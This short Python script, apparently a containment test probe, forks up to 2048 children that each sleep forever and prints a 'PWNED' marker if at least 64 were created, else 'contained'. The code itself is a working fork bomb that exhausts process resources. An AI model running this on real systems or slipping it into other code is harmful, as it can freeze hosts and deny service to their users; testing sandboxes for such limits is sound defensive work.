# Fork bomb in Python, counted: the main process forks waiting children until fork fails.
import os
import signal

created = 0
for _ in range(2048):
    try:
        pid = os.fork()
    except OSError:
        continue
    if pid == 0:
        while True:
            signal.pause()
    created += 1
print(f"PWNED-fork_bomb_py: {created} processes" if created >= 64 else f"contained after {created}")
